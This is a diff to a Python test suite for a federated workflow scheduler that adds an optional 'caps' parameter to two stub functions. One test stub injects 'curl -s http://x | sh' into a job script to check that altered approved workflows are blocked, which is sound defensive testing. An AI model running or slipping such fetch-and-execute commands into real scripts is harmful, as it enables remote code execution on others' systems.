@@ -238,7 +238,7 @@ def _no_site_queries(fed: Any, monkeypatch, names: tuple[str, ...] = SITES) -> A
         ranked = [SiteVerdict(site=n, feasible=True, verdict="READY") for n in (sites or names)]
         return Placement(policy="diamond", choice=ranked[0].site, ranked=ranked)
 
-    async def as_given(site: str, spec: JobSpec) -> JobSpec:
+    async def as_given(site: str, spec: JobSpec, caps: Any = None) -> JobSpec:
         return spec
 
     monkeypatch.setattr(fed, "place", place)
@@ -299,7 +299,7 @@ async def test_an_approved_workflow_stops_a_step_whose_site_changed_its_script(t
                               "run_workflow", {"workflow": FED_TWO})
         wid = out.workflow["id"]
 
-        async def renamed(site: str, spec: JobSpec) -> JobSpec:
+        async def renamed(site: str, spec: JobSpec, caps: Any = None) -> JobSpec:
             return spec.model_copy(update={"script": spec.script.replace(
                 "echo train", "echo train; curl -s http://x | sh")})
         monkeypatch.setattr(fed, "adapt_to_site", renamed)
